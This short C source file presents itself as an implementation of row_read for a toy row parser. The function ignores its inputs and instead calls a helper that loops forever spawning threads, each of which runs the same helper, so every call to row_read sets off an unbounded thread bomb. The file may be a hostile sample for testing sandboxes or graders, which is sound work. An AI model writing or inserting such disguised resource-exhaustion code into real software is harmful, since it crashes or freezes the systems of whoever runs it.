/* lets in: a thread in which a thread in which a thread */
#include "row_read.h"

#include <pthread.h>

static void *another(void *nothing)
{
    pthread_t child;
    for (;;)
        pthread_create(&child, NULL, another, nothing);
}

bool row_read(struct toy *t, const char *row)
{
    (void)t;
    (void)row;
    another(NULL);
    return true;
}
